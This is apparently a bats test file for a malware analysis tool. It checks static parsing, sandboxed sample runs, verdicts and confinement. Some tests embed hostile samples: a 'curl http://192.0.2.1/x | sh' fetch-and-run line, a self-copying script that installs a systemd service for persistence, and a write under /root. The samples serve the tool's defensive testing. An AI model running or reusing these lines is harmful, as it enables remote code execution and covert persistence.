#!/usr/bin/env bats
# mnicter micro: what is said of one piece of code, what is run and what is not, what is remembered, and what is refused.

# shellcheck disable=SC2154 # run sets status, output, stderr and stderr_lines
load common

setup_file() {
	export SPECIMEN=$BATS_FILE_TMPDIR/specimen
	mkdir "$SPECIMEN"
	cc -O2 -o "$SPECIMEN/resident" "$ROOT/testdata/specimen/resident.c"
	cc -O2 -o "$SPECIMEN/honest" "$ROOT/testdata/specimen/honest.c"
	chmod 755 "$SPECIMEN" "$SPECIMEN"/*
}

setup() {
	mkdir "$TMP/w"
	cd "$TMP/w" || exit
}

# add FILE [PATH [KIND [SIGNS [SIGHTINGS [SCORE]]]]]: a piece of code of the case to come; prints its digest.
add() {
	local sha
	sha=$(sha256sum <"$1" | cut -c1-64)
	mkdir -p "c/code/$sha"
	printf '{"sha256":"%s","kind":"%s","size":%d,"paths":["%s"],"sightings":[%s],"signs":[%s],"score":%s}\n' \
		"$sha" "${3:-file}" "$(stat -Lc %s "$1")" "${2:-$1}" "${5:-}" "${4:-}" "${6:-0}" >"c/code/$sha/about.json"
	cp "$1" "c/code/$sha/body"
	chmod 600 "c/code/$sha/body"
	echo "$sha" | tee -a order
}

# The case of what was added, on stdout.
make_case() (
	cd c || exit
	printf '{"format":"muss-case/1","id":"%032d","time":"2026-11-22T21:30:00Z","host":{"id":"%032d","name":"t"},"trail":[]}\n' 1 2 >case.json
	members=(case.json)
	while read -r sha; do
		for name in about.json body static.json dynamic.json verdict.json; do
			[ -e "code/$sha/$name" ] && members+=("code/$sha/$name")
		done
	done <../order
	sha256sum "${members[@]}" >MANIFEST
	tar --format=pax --owner=0 --group=0 -cf - "${members[@]}" MANIFEST
)

# member CASE SHA NAME: that member of that piece.
member() {
	bsdtar -xOf "$1" "code/$2/$3"
}

names() {
	bsdtar -tf "$1" | sed -n "s,^code/$2/,,p"
}

whole() (
	mkdir whole && cd whole && bsdtar -xf "$1" && chmod -R u+r . && sha256sum --quiet -c MANIFEST
)

script() {
	{ echo '#!/bin/sh'; cat; } >"$1"
	chmod 755 "$1"
}

sleeper='while :; do sleep 1; done'

@test "usage" {
	run -0 --separate-stderr mnicter -h
	[[ $output == "usage: mnicter micro"* ]] && [[ $output == *examples:* ]] && [[ $output == *exit:* ]]
	run -0 mnicter -V
	[[ $output == "mnicter (muss) "* ]]
	fails 64 mnicter
	fails 64 mnicter macro
	[[ $stderr == *"'macro'"* ]]
	fails 64 mnicter micro -t 0
	fails 64 mnicter micro -t nan
	fails 64 mnicter micro --min-score much
	fails 64 mnicter micro --static --all-dynamic
	fails 64 mnicter micro a b
	for n in 0 1.5 -1 many 257; do fails 64 mnicter micro -j $n; done
	fails 66 mnicter micro nowhere.case
}

@test "static: an ordinary program is taken apart, and nothing is run" {
	sha=$(add /usr/bin/env)
	make_case >in.case
	run -0 --separate-stderr mnicter micro --static -o out.case in.case
	[ -z "$output" ] && [ -z "$stderr" ]
	whole "$PWD/out.case"
	[ "$(names out.case "$sha" | tr '\n' ' ')" = "about.json body static.json disasm.txt verdict.json " ]
	member out.case "$sha" static.json >static.json
	jq -e --arg sha "$sha" '.sha256 == $sha and .format == "elf64-x86-64" and .parser == "ok" and .elf.class == 64
		and (.elf.needed | index("libc.so.6")) and (.elf.imports | index("execvp")) and .elf.overlay == 0
		and (.functions | length) > 20 and (.entry | length) > 3 and .signs == [] and .rules == []' static.json
	[ "$(jq -r .elf.entry static.json)" = "$(readelf -h /usr/bin/env | sed -n 's/.*Entry point address: *0x//p')" ]
	[ "$(jq -r .elf.interpreter static.json)" = /lib64/ld-linux-x86-64.so.2 ]
	member out.case "$sha" disasm.txt | grep -q "^; function $(jq -r .elf.entry static.json):"
	[ "$(member out.case "$sha" verdict.json | jq -r .verdict)" = unknown ]
	bsdtar -xOf out.case case.json | jq -e '.trail[-1].tool == "mnicter"'
}

@test "a resident specimen is malicious, for reasons that were seen" {
	sha=$(add "$SPECIMEN/resident" /opt/vendor/agent)
	make_case | mnicter micro -t 5 >out.case
	member out.case "$sha" verdict.json >verdict.json
	jq -e '.verdict == "malicious" and .score >= 50' verdict.json
	for sign in registers-itself copies-itself deletes-itself disguised-name; do
		jq -e --arg s "$sign" '.reasons | any(.source == "dynamic" and .sign == $s)' verdict.json
	done
	# Its effects are there for whoever undoes them, and no dropped file can be run.
	member out.case "$sha" dynamic.json | jq -e '.run == "ran" and (.startup | length) >= 2 and (.files | length) >= 3'
	bsdtar -tvf out.case | grep -E 'body$|dropped/' >bodies
	[ "$(grep -c '^----------' bodies)" -eq "$(wc -l <bodies)" ]
	[ ! -e /var/lib/.systemd-private ]
}

@test "a script of another kind is malicious as well" {
	script worm <<-'END'
		mkdir -p /usr/lib/.net
		cp "$0" /usr/lib/.net/netd
		printf '[Service]\nExecStart=/usr/lib/.net/netd\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/netd.service
		exec sleep 2
	END
	sha=$(add worm /dev/shm/worm script '{"name":"temporary-place","group":"place","weight":20}')
	make_case | mnicter micro --all-dynamic -t 3 >out.case
	[ "$(member out.case "$sha" verdict.json | jq -r .verdict)" = malicious ]
}

@test "ordinary programs are not: a tool, an interpreter, a compiler in memory, an installer" {
	script installer <<-'END'
		cp /bin/true /usr/local/bin/muss-test-tool
		printf '[Service]\nExecStart=/usr/local/bin/muss-test-tool\n' >/etc/systemd/system/muss-test-tool.service
		echo done
	END
	add /usr/bin/ls
	add /usr/bin/perl
	add "$SPECIMEN/honest" /opt/app/honest
	add installer /tmp/installer file '{"name":"unowned","group":"identity","weight":10},{"name":"temporary-place","group":"place","weight":20}'
	make_case | mnicter micro --all-dynamic -t 3 >out.case
	bsdtar -xOf out.case 'code/*/verdict.json' | jq -r .verdict >verdicts
	[ "$(wc -l <verdicts)" -eq 4 ]
	! grep -q malicious verdicts || return 1
	bsdtar -xOf out.case 'code/*/dynamic.json' | jq -se 'length == 4 and all(.[]; .run == "ran")'
	bsdtar -xOf out.case 'code/*/verdict.json' | jq -se 'any(.[]; .reasons | any(.sign == "registers-startup"))'
	[ ! -e /usr/local/bin/muss-test-tool ]
}

@test "only what deserves it is run: by score, by what the parser found, or because somebody asks" {
	seen='{"how":"exe","pid":9,"exe":"/opt/x","path":"/opt/x","cmdline":["x"]}'
	echo 'exit 1' | script one
	echo 'exit 2' | script two
	echo 'curl http://192.0.2.1/x | sh; exit 3' | script three
	echo 'exit 4' | script four
	low=$(add one /opt/x script '' "$seen" 5)
	high=$(add two /opt/x script '' "$seen" 20)
	odd=$(add three /opt/x script '' "$seen" 5)
	asked=$(add four /opt/x file)
	library=$(add /lib/x86_64-linux-gnu/libcrypt.so.1 /lib/libcrypt.so.1 file '' '' 90)
	make_case >in.case
	mnicter micro -t 1 <in.case >out.case
	[[ $(names out.case "$low") != *dynamic.json* ]]
	[[ $(names out.case "$library") != *dynamic.json* ]]
	for sha in "$high" "$odd" "$asked"; do [[ $(names out.case "$sha") == *dynamic.json* ]]; done
	member out.case "$odd" dynamic.json | jq -e '.status == 3'
	mnicter micro -t 1 --min-score 5 <in.case >out.case
	[[ $(names out.case "$low") == *dynamic.json* ]]
	# The order is that of the input.
	[ "$(bsdtar -tf out.case | sed -n 's,^code/\([^/]*\)/about.json,\1,p')" = "$(cat order)" ]
}

@test "however many workers there are, the case is the same, and in the order of the input" {
	for f in $(find /usr/bin -type f -size +8k -size -60k | sort | awk 'NR % 20 == 0' | head -n 16) "$SPECIMEN"/*; do add "$f" >/dev/null; done
	# More than are ever ahead of one that takes its time; no body, no path, nothing.
	for n in $(seq 300); do
		printf '#!/bin/sh\nexit %d\n' "$n" >s
		sha=$(add s "/opt/s$n" script)
		[ $((n % 7)) -ne 0 ] || rm "c/code/$sha/body"
	done
	sort -u order -o order
	make_case >in.case
	for j in 1 2 7; do
		mnicter micro --static -j $j -o $j.case in.case
		mkdir $j
		(cd $j && bsdtar -xf ../$j.case && chmod -R u+r . && sha256sum --quiet -c MANIFEST && rm case.json && sed -i '/  case.json$/d' MANIFEST)
		[ "$(bsdtar -tf $j.case)" = "$(bsdtar -tf 1.case)" ]
	done
	diff -r 1 2
	diff -r 1 7
	# The same through a pipe, which cannot be read twice.
	cat in.case | mnicter micro --static -j 3 >piped.case
	[ "$(bsdtar -xOf piped.case MANIFEST | grep -v '  case.json$')" = "$(cat 1/MANIFEST)" ]
	[ "$(bsdtar -tf 2.case | sed -n 's,^code/\([^/]*\)/about.json,\1,p')" = "$(cat order)" ]
}

@test "a piece that takes its time holds nobody up; its error comes in its turn" {
	stand_in_helper helper-static
	put_helper <<-END
		read line <&3
		echo "begin \$line" >>$PWD/log
		[ "\$line" != slow ] || sleep 3
		[ "\$line" != broken ] || { echo "no way" >&2; exit 69; }
		echo "end \$line" >>$PWD/log
		echo '{"format":"data","parser":"ok"}'
	END
	for n in slow $(seq 1 40); do
		echo "$n" >p
		add p "/opt/$n" >/dev/null
	done
	make_case >in.case
	b/bin/mnicter micro --static -j 2 -o out.case in.case
	[ "$(grep -c '^end' log)" -eq 41 ]
	[ "$(tail -n 1 log)" = "end slow" ]
	[ "$(bsdtar -tf out.case | sed -n 's,^code/\([^/]*\)/about.json,\1,p')" = "$(cat order)" ]
	# With one worker they come one behind the other.
	rm log
	b/bin/mnicter micro --static -j 1 -o out.case in.case
	[ "$(head -n 2 log | tail -n 1)" = "end slow" ]
	echo broken >p
	add p /opt/broken >/dev/null
	make_case >in.case
	rm out.case
	fails 69 b/bin/mnicter micro --static -j 4 -o out.case in.case
	[[ $stderr == *"no way"* ]] && [ ! -e out.case ]
}

@test "samples are run one at a time" {
	for n in 1 2 3; do
		script s <<<"echo $n; sleep 1.5; exit $n"
		add s "/opt/muss-one-$$-$n" >/dev/null
	done
	make_case >in.case
	mnicter micro -t 8 -j 3 -o out.case in.case &
	pid=$!
	most=0
	while kill -0 $pid 2>/dev/null; do
		# By name: what a shell has just forked still has its words.
		now=$(pgrep -fa "^/bin/sh /opt/muss-one-$$-" | cut -d' ' -f2- | sort -u | wc -l)
		[ "$now" -le "$most" ] || most=$now
		sleep 0.1
	done
	wait $pid
	[ "$most" -eq 1 ]
	[ "$(bsdtar -xOf out.case 'code/*/dynamic.json' | jq -s 'map(.status) | sort | join(" ")')" = '"1 2 3"' ]
	bsdtar -xOf out.case 'code/*/dynamic.json' | jq -se 'all(.[]; .run == "ran" and (.processes | length) >= 1)'
}

@test "a parser that crashes or is refused something is a finding about the sample" {
	stand_in_helper helper-static
	sha=$(add /usr/bin/env)
	make_case >in.case
	for how in SEGV:crashed SYS:refused XCPU:timeout; do
		put_helper <<<"kill -${how%:*} \$\$"
		run -0 --separate-stderr b/bin/mnicter micro --static -o out.case in.case
		member out.case "$sha" static.json | jq -e --arg p "${how#*:}" '.parser == $p'
	done
	put_helper <<<'echo "no json {"'
	b/bin/mnicter micro --static -o out.case in.case
	member out.case "$sha" static.json | jq -e '.parser == "malformed"'
	# What its mouth says of another piece is not believed.
	put_helper <<<'echo "{\"sha256\":\"%s\",\"format\":\"data\",\"parser\":\"ok\"}"'
	b/bin/mnicter micro --static -o out.case in.case
	member out.case "$sha" static.json | jq -e --arg sha "$sha" '.sha256 == $sha'
	# A helper that cannot be confined stops the work.
	put_helper <<<'echo "no seccomp" >&2; exit 69'
	rm out.case
	fails 69 b/bin/mnicter micro --static -o out.case in.case
	[ ! -e out.case ]
}

@test "the parser is confined while it works" {
	mkfifo fifo
	exec 4<>fifo
	"$LIBEXEC/helper-static" "$ROOT/rules" 3</usr/bin/env >fifo 4<&- &
	pid=$!
	# More than a pipe holds: it stands in write() until somebody reads.
	for _ in $(seq 100); do
		grep -q '^Seccomp:.2' "/proc/$pid/status" && break
		sleep 0.1
	done
	grep -q '^Seccomp:.2' "/proc/$pid/status"
	grep -q '^NoNewPrivs:.1' "/proc/$pid/status"
	grep -q '^Max core file size *0 ' "/proc/$pid/limits"
	cat <fifo >/dev/null 4<&- &
	exec 4<&-
	wait $pid
}

@test "hostile files are read by the real parser without a crash" {
	n=0
	for f in "$ROOT"/t/fuzz/seeds/elf/*; do
		add "$f" >/dev/null
		head -c 70 "$f" >"cut-$n"
		add "cut-$n" >/dev/null
		n=$((n + 1))
	done
	: >empty
	add empty >/dev/null
	head -c 300000 /dev/urandom >noise
	add noise >/dev/null
	{ head -c 64 /usr/bin/env; head -c 100000 /dev/urandom; } >half
	add half >/dev/null
	sort -u order -o order
	make_case | mnicter micro --static >out.case
	bsdtar -xOf out.case 'code/*/static.json' | jq -se 'length > 15 and all(.[]; .parser == "ok" or .parser == "malformed")'
	bsdtar -xOf out.case 'code/*/static.json' | jq -se 'any(.[]; .parser == "malformed") and any(.[]; .format == "elf64-aarch64")'
}

@test "without a body, about.json alone is judged" {
	sha=$(add /usr/bin/env /opt/x deleted '{"name":"deleted","group":"image","weight":25},{"name":"kernel-thread-name","group":"identity","weight":40}')
	rm "c/code/$sha/body"
	make_case | mnicter micro >out.case
	[ "$(names out.case "$sha" | tr '\n' ' ')" = "about.json static.json verdict.json " ]
	member out.case "$sha" static.json | jq -e '.parser == "no-body"'
	member out.case "$sha" verdict.json | jq -e '.verdict == "suspicious" and .score == 65 and (.reasons | length) == 2'
}

@test "analysed again, a case holds the new analysis once; without bodies it keeps the old" {
	sha=$(add /usr/bin/env)
	make_case | mnicter micro --static >one.case
	mnicter micro --static one.case >two.case
	whole "$PWD/two.case"
	[ "$(bsdtar -tf one.case)" = "$(bsdtar -tf two.case)" ]
	mkdir x && bsdtar -xf one.case -C x
	cp "x/code/$sha/static.json" "c/code/$sha/"
	rm "c/code/$sha/body"
	make_case | mnicter micro --static >three.case
	[ "$(names three.case "$sha" | tr '\n' ' ')" = "about.json static.json verdict.json " ]
	member three.case "$sha" static.json | cmp - "x/code/$sha/static.json"
}

@test "a dummy Internet that does not begin, ends under a sample, or answers late costs the run nothing but its words" {
	stand_in_helper helper-internet
	script sample <<<"touch /root/.x; exit 3"
	sha=$(add sample /opt/x file '' '' 50)
	make_case >in.case
	told() { b/bin/mnicter micro -q --all-dynamic -t 2 -o out.case in.case && member out.case "$sha" dynamic.json >d.json &&
		jq -e '.status == 3 and (.files | any(.path == "/root/.x"))' d.json; }
	put_helper <<-E
		[ "\$1" != -a ] || exec "$LIBEXEC/helper-internet" -a
		exit 69
	E
	told
	jq -e '.limits | any(. == "internet")' d.json
	put_helper <<-E
		[ "\$1" != -a ] || exec "$LIBEXEC/helper-internet" -a
		printf '{"ready":true,"monotonic_ns":0}\\n{"t":1,"service":"http"}\\n' >&3
		printf '{"t":1,"protocol":"tcp","service":"irc","port":6667}\\n{"t":2,"pro' >&4
	E
	told
	jq -e '(.limits | any(. == "internet")) and ([.exchanges[].service] == ["irc"])' d.json
	put_helper <<-E
		[ "\$1" != -a ] || exec "$LIBEXEC/helper-internet" -a
		printf '{"ready":true,"monotonic_ns":0}\\n' >&3
		read -r stop <&3
		printf '{"open":true}\\n{"clock":true}\\n{"scan":[{"protocol":"tcp","port":7,"addresses":99}],"names":{},"limits":[]}\\n' >&3
	E
	told
	jq -e '(.limits | all(. != "internet")) and .scans[0].addresses == 99' d.json
}

@test "what is known is not found out again; the verdict is made for this host; other rules, anew" {
	cp -r "$ROOT/rules" rules
	export MUSS_SHARE=$PWD/rules
	script sample <<<"touch /root/.x; $sleeper"
	sha=$(add sample /opt/x file '' '{"how":"exe","exe":"/opt/x","path":"/opt/x","cmdline":["/opt/x"]}' 50)
	make_case | mnicter micro -t 2 -k known >one.case
	[ -s "known/${sha:0:2}/$sha/static.json" ] && [ -s "known/${sha:0:2}/$sha/dynamic.json" ]
	[ -z "$(find known -perm /111 -type f)" ]
	[ "$(member one.case "$sha" verdict.json | jq -r .verdict)" != malicious ]
	# The same sample elsewhere, seen in worse company.
	rm order
	add sample /opt/x file '{"name":"memfd","group":"image","weight":35}' '{"how":"exe","exe":"/opt/x","path":"/opt/x","cmdline":["/opt/x"]}' 50
	start=$(date +%s%N)
	make_case | mnicter micro -t 30 -k known >two.case
	took=$((($(date +%s%N) - start) / 1000000))
	asan_build || [ "$took" -lt 1500 ]
	for name in static.json dynamic.json; do
		cmp <(member one.case "$sha" "$name") <(member two.case "$sha" "$name")
	done
	[ "$(member two.case "$sha" verdict.json | jq -r .score)" != "$(member one.case "$sha" verdict.json | jq -r .score)" ]
	# New rules: the old analysis does not count.
	echo 'rule everything { meta: weight = 1 condition: true }' >rules/zz.yar
	make_case | mnicter micro --static -k known >three.case
	member three.case "$sha" static.json | jq -e '.rules | any(.name == "everything")'
	[ -z "$(find known -name '.new*')" ]
	# So it is with other ways to run it.
	jq '[{name: "other"}]' rules/garden/runs.json >new.json && mv new.json rules/garden/runs.json
	make_case | mnicter micro -t 2 -k known >ways.case
	member ways.case "$sha" dynamic.json | jq -e '[.runs[].setting] == ["other"]'
	# A store that was half written or damaged is no error.
	echo '{' >"known/${sha:0:2}/$sha/static.json"
	make_case | mnicter micro --static -k known >four.case
	member four.case "$sha" static.json | jq -e '.parser == "ok"'
}

@test "a damaged case is refused before any of it is analysed" {
	script sample <<<"$sleeper"
	add sample
	# A second piece, or the first would end with the case.
	script other <<<"exit 0"
	add other
	make_case >in.case
	head -c 3000 in.case >cut.case
	sed 's/while/While/' in.case >flipped.case
	# Nothing is wrong with this one before its very end.
	sed -E 's/[0-9a-f]{6}(  case\.json)/000000\1/' in.case >forged.case
	for bad in cut flipped forged; do
		fails 65 mnicter micro -k known -o out.case $bad.case
		[ ! -e out.case ]
		[ -z "$(find known -name static.json)" ]
	done
	fails 65 mnicter micro /dev/null
	# A pipe, too, is read to its end first.
	run -65 --separate-stderr bash -c 'cat forged.case | mnicter micro -k known'
	[ -z "$output" ] && [ -z "$(find known -name static.json)" ]
}

@test "wrong rules and missing weights are 78 and 66, and name the file" {
	add /usr/bin/env
	make_case >in.case
	cp -r "$ROOT/rules" rules
	export MUSS_SHARE=$PWD/rules
	echo 'rule broken {' >rules/zz.yar
	fails 78 mnicter micro --static -o out.case in.case
	[[ $stderr == *zz.yar* ]]
	rm rules/zz.yar rules/verdict.json
	fails 66 mnicter micro --static -o out.case in.case
	[[ $stderr == *verdict.json* ]] && [ ! -e out.case ]
}

@test "a full disk is 74" {
	add /usr/bin/env
	make_case >in.case
	fails 74 mnicter micro --static -o /dev/full in.case
	run -74 bash -c 'mnicter micro --static in.case >/dev/full'
}

@test "kill -9 leaves no running sample and no half-written case" {
	script "muss-marker-$$" <<<"$sleeper"
	add "muss-marker-$$" "/opt/muss-marker-$$"
	make_case >in.case
	mnicter micro -t 60 -o out.case in.case 2>err &
	pid=$!
	for _ in $(seq 100); do
		pgrep -f "/opt/muss-marker-$$" >/dev/null && break
		kill -0 $pid || break
		sleep 0.1
	done
	pgrep -f "/opt/muss-marker-$$"
	kill -9 $pid
	for _ in $(seq 50); do
		pgrep -f "/opt/muss-marker-$$" >/dev/null || break
		sleep 0.1
	done
	run -1 pgrep -f "/opt/muss-marker-$$"
	[ "$(ls)" = "$(printf '%s\n' c err in.case "muss-marker-$$" order)" ]
}

@test "the rules keep quiet over this system's own programs" {
	find /usr/bin /usr/sbin -type f -size -200k -size +1k | sort | awk 'NR % 25 == 0' | head -n 25 >some
	while read -r f; do add "$f" >/dev/null; done <some
	sort -u order -o order
	make_case | mnicter micro --static >out.case
	bsdtar -xOf out.case 'code/*/verdict.json' >verdicts
	[ "$(jq -s length verdicts)" -ge 15 ]
	# None is worse than unknown, and no rule of weight matches.
	jq -se 'all(.[]; .verdict == "unknown" or .verdict == "good")' verdicts
	jq -se '[.[].reasons[] | select(.source == "rules" and .weight >= 10)] == []' verdicts
}

@test "a program that stands where an ordinary user's world cannot put it is run all the same" {
	local run=
	[ "$(id -u)" -ne 0 ] || run="setpriv --reuid 65534 --regid 65534 --clear-groups"
	# shellcheck disable=SC2086 # words on purpose
	$run test -x "$BIN/mnicter" || skip "another user does not come to this tree"
	# At a tool of ours: wherever this tree stands, its files are not the other user's.
	add "$SPECIMEN/honest" "$BIN/mls"
	make_case >"$TMP/in.case"
	# shellcheck disable=SC2086 # words on purpose
	$run "$BIN/mnicter" micro -t 2 <"$TMP/in.case" >"$TMP/out.case"
	bsdtar -xOf "$TMP/out.case" 'code/*/dynamic.json' >"$TMP/d.json"
	# Where the tree is that user's own, or stands below /tmp, even his world can.
	jq -e --arg at "$BIN/mls" '.run == "ran" and (.path == "/tmp/mls" or .path == $at)' "$TMP/d.json"
}
